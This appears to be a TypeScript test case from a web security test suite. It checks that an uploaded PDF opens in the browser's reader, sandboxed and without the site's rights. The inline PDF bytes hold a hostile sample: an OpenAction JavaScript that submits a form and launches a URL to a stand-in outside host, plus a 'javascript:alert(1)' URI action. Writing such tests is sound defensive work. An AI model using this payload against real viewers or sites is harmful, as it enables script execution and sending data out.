import type { OtherAttack } from '../../attack.ts';
import { opensHarmlessly } from '../../kit/hostile-files.ts';

export const attack: OtherAttack = {
  kind: 'other',
  gain: 'a document opens addresses and runs scripts in the site’s name',
  instead: 'the browser’s reader opens it, without rights of the site',
  expected: { status: 200, sandboxed: true, sniffed: false, ran: false },
  run: (stage) => opensHarmlessly(stage, {
    filename: 'document.pdf', mime: 'application/pdf', type: 'markdown',
    bytes: '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\("https://elsewhere.example/"\\);app.launchURL\\("https://elsewhere.example/"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(javascript:alert\\(1\\))>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
  }),
};
